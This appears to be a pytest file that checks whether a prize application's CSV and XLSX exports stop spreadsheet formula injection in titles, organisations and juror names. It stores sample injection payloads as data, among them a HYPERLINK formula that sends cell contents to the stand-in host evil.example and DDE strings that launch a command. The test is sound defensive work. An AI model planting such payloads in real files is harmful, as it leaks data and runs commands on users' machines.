"""No export lets a title, an organisation or a name become a spreadsheet formula.

Every CSV and XLSX goes through one writer (`prize.domain.exports`): the console's
downloads, `/admin/entries.csv` and `prize export`. In CSV a text beginning with
= + - @, a tab or a carriage return starts with an apostrophe; in XLSX it is text,
never a formula; numbers stay numbers in both.
"""

from __future__ import annotations

import asyncio
import csv
import io

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from prize.cli import main
from prize.domain import exports
from prize.store.db import Database
from tests.http.test_deliberation import scored_edition

YEAR = 2025
# What an applicant or a juror could type, and what a spreadsheet would run.
TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
ORGANISATION = "+1+cmd|' /C calc'!A0"
JUROR = "@SUM(1+1)*cmd|' /C calc'!A0"
STATEMENT = "-2+3"
TAB = "\t=1+1"
PAYLOADS = (TITLE, ORGANISATION, JUROR, STATEMENT, TAB)


async def with_payloads(db) -> None:
    """The scored edition of the deliberation tests, with dangerous texts in every column."""
    _, made, jurors = await scored_edition(db)
    async with db.transaction() as conn:
        await conn.execute("UPDATE entries SET title = ?, organisation = ?, jury_statement = ?"
                           " WHERE id = ?", (TITLE, ORGANISATION, STATEMENT, made[0].id))
        await conn.execute("UPDATE entries SET title = ? WHERE id = ?", (TAB, made[1].id))
        await conn.execute("UPDATE users SET name = ? WHERE id = ?", (JUROR, jurors[0].id))


def assert_csv_is_inert(text: str) -> set[str]:
    """The cells of a CSV export, after checking that none would run as a formula."""
    cells = {cell for row in csv.reader(io.StringIO(text)) for cell in row}
    assert cells, "empty export"
    for cell in cells:
        is_figure = cell.lstrip("-").replace(".", "", 1).isdigit()
        assert is_figure or not cell.startswith(exports.FORMULA_STARTS), repr(cell)
    return cells


def assert_xlsx_is_inert(content: bytes) -> set[str]:
    sheet = load_workbook(io.BytesIO(content)).active
    texts = set()
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                texts.add(cell.value)
    return texts


EXPECTED_IN = {"entries": {TITLE, ORGANISATION, STATEMENT, TAB}, "scores": {JUROR},
               "ranking": {TITLE, TAB}}


@pytest.mark.parametrize("what", exports.WHATS)
async def test_edition_exports_over_http_keep_formulas_out(admin_client, db, what):
    await with_payloads(db)
    base = f"/admin/editions/{YEAR}/exports/{what}"

    as_csv = await admin_client.get(base + ".csv")
    as_xlsx = await admin_client.get(base + ".xlsx")

    assert as_csv.status_code == as_xlsx.status_code == 200
    assert {"'" + payload for payload in EXPECTED_IN[what]} <= assert_csv_is_inert(as_csv.text)
    # In XLSX the text is exactly what was typed, held as text.
    assert EXPECTED_IN[what] <= assert_xlsx_is_inert(as_xlsx.content)


async def test_the_entries_overview_csv_keeps_formulas_out(admin_client, db):
    await with_payloads(db)

    response = await admin_client.get(f"/admin/entries.csv?year={YEAR}")

    assert response.status_code == 200
    assert {"'" + TITLE, "'" + ORGANISATION, "'" + TAB} <= assert_csv_is_inert(response.text)


@pytest.fixture
def prize_db(tmp_path, monkeypatch):
    path = tmp_path / "prize.db"
    monkeypatch.setenv("PRIZE_DB", str(path))
    monkeypatch.setenv("PRIZE_SECRET_KEY", "cli-test-secret")
    monkeypatch.setenv("PRIZE_UPLOAD_DIR", str(tmp_path / "uploads"))

    async def seed() -> None:
        async with Database(path) as db:
            await db.migrate()
            await with_payloads(db)

    asyncio.run(seed())
    return path


@pytest.mark.parametrize("what", exports.WHATS)
def test_prize_export_keeps_formulas_out(prize_db, tmp_path, what):
    as_csv = CliRunner().invoke(main, ["export", str(YEAR), "--what", what])
    out = tmp_path / f"{what}.xlsx"
    as_xlsx = CliRunner().invoke(main, ["export", str(YEAR), "--what", what, "--format", "xlsx",
                                        "--out", str(out)])

    assert as_csv.exit_code == as_xlsx.exit_code == 0, as_csv.output + as_xlsx.output
    assert {"'" + payload for payload in EXPECTED_IN[what]} <= assert_csv_is_inert(as_csv.stdout)
    assert EXPECTED_IN[what] <= assert_xlsx_is_inert(out.read_bytes())


def test_numbers_stay_numbers_and_text_stays_text():
    table = exports.Table(("name", "count", "offset", "mean"),
                          [("-3 points", -3, "-0.25", "12.50"), ("=1+1", 0, "0.00", "")])

    lines = exports.to_csv(table).splitlines()
    sheet = load_workbook(io.BytesIO(exports.to_xlsx(table, "test"))).active
    rows = [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows(min_row=2)]

    assert lines[1:] == ["'-3 points,-3,-0.25,12.50", "'=1+1,0,0.00,"]
    assert rows[0][:4] == [("-3 points", "s"), (-3, "n"), (-0.25, "n"), (12.5, "n")]
    assert rows[1][:3] == [("=1+1", "s"), (0, "n"), (0.0, "n")]
